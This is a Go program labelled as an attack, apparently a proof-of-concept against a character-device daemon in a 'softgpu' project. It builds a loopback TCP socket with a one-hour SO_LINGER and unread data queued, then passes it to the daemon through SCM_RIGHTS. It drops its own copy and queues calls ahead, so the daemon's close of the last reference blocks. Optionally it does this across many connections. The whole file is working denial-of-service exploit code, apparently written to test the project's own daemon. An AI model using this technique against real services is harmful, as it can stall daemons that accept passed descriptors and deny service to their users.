// Attack: hand the daemon a descriptor whose close(2) blocks.
//
// A TCP socket with SO_LINGER {on, 3600 s} and unsent data that its peer
// never reads: close() of the last reference waits up to the linger time
// for the FIN to be acknowledged. The stranger sends it with any call
// (SCM_RIGHTS), then drops its own copy, so the daemon's close in
// server/client.go (serve: "unix.Close(fd)") is the last one and blocks.
//
// usage: linger -node PATH [-n CONNS] [-attach]
package main

import (
	"flag"
	"fmt"
	"net"
	"os"
	"time"

	"golang.org/x/sys/unix"

	"softgpu/stage9-chardev/uapi"
)

func lingeringSocket() (int, *net.TCPListener) {
	ln, err := net.ListenTCP("tcp", &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1)})
	must(err)
	lraw, _ := ln.SyscallConn()
	lraw.Control(func(pfd uintptr) { unix.SetsockoptInt(int(pfd), unix.SOL_SOCKET, unix.SO_RCVBUF, 2048) })
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	must(err)
	must(unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_SNDBUF, 4096))
	addr := ln.Addr().(*net.TCPAddr)
	must(unix.Connect(fd, &unix.SockaddrInet4{Port: addr.Port, Addr: [4]byte{127, 0, 0, 1}}))
	// Accept it and never read: the peer's window closes.
	conn, err := ln.AcceptTCP()
	must(err)
	raw, _ := conn.SyscallConn()
	raw.Control(func(pfd uintptr) { unix.SetsockoptInt(int(pfd), unix.SOL_SOCKET, unix.SO_RCVBUF, 2048) })
	keep = append(keep, conn)
	must(unix.SetNonblock(fd, true))
	buf := make([]byte, 65536)
	total := 0
	// Write until the peer's window is shut and data stays unsent: then
	// the FIN cannot go out, and a lingering close waits.
	for quiet := 0; quiet < 20; {
		n, err := unix.Write(fd, buf)
		if err != nil {
			quiet++
			time.Sleep(10 * time.Millisecond)
			continue
		}
		quiet = 0
		total += n
	}
	outq, _ := unix.IoctlGetInt(fd, unix.SIOCOUTQ)
	fmt.Fprintf(os.Stderr, "unsent/unacked bytes in the send queue: %d\n", outq)
	must(unix.SetNonblock(fd, false))
	must(unix.SetsockoptLinger(fd, unix.SOL_SOCKET, unix.SO_LINGER, &unix.Linger{Onoff: 1, Linger: 3600}))
	fmt.Fprintf(os.Stderr, "socket fd %d: %d bytes queued the peer will never read\n", fd, total)
	return fd, ln
}

var keep []*net.TCPConn

func must(err error) {
	if err != nil {
		fmt.Fprintln(os.Stderr, "linger:", err)
		os.Exit(2)
	}
}

func call(sock *net.UnixConn, seq uint64, arg uapi.Arg, fds []int) error {
	var oob []byte
	if len(fds) > 0 {
		oob = unix.UnixRights(fds...)
	}
	_, _, err := sock.WriteMsgUnix(uapi.EncodeCall(seq, arg), oob, nil)
	return err
}

func main() {
	node := flag.String("node", "", "the node")
	n := flag.Int("n", 1, "connections, each sending one lingering socket")
	attach := flag.Bool("attach", false, "VERSION and ATTACH (and an ALLOC) first, so a context is held")
	flag.Parse()
	var socks []*net.UnixConn
	for i := 0; i < *n; i++ {
		sock, err := net.DialUnix("unixpacket", nil, &net.UnixAddr{Name: *node, Net: "unixpacket"})
		must(err)
		socks = append(socks, sock)
		buf := make([]byte, 1024)
		oob := make([]byte, 1024)
		if *attach {
			must(call(sock, 1, &uapi.Version{Major: uapi.VersionMajor, Minor: uapi.VersionMinor}, nil))
			sock.ReadMsgUnix(buf, oob)
			must(call(sock, 2, &uapi.Attach{}, nil))
			sock.ReadMsgUnix(buf, oob)
			must(call(sock, 3, &uapi.Alloc{Size: 1 << 20}, nil))
			sock.ReadMsgUnix(buf, oob)
		}
		fd, _ := lingeringSocket()
		// Keep the daemon busy with calls queued ahead, so that our close
		// comes before its close and its close is the last reference.
		for k := 0; k < 64; k++ {
			must(call(sock, uint64(100+k), &uapi.Version{Major: uapi.VersionMajor, Minor: uapi.VersionMinor}, nil))
		}
		// Any call: one descriptor too many for VERSION, so it is refused and closed.
		must(call(sock, 9, &uapi.Version{Major: uapi.VersionMajor, Minor: uapi.VersionMinor}, []int{fd}))
		unix.Close(fd) // the daemon's copy is the last
		fmt.Fprintf(os.Stderr, "conn %d: our copy closed\n", i)
		sock.SetReadDeadline(time.Now().Add(2 * time.Second))
		replies := 0
		for {
			var n int
			n, _, _, _, err = sock.ReadMsgUnix(buf, oob)
			if err != nil {
				break
			}
			h := uapi.DecodeHeader(buf[:n])
			replies++
			if h.Seq == 9 {
				fmt.Printf("conn %d: reply to the call carrying the socket: errno %d\n", i, h.Errno)
			}
		}
		fmt.Printf("conn %d: %d replies, then %v\n", i, replies, err)
	}
	fmt.Println("holding; kill me to end")
	select {}
}
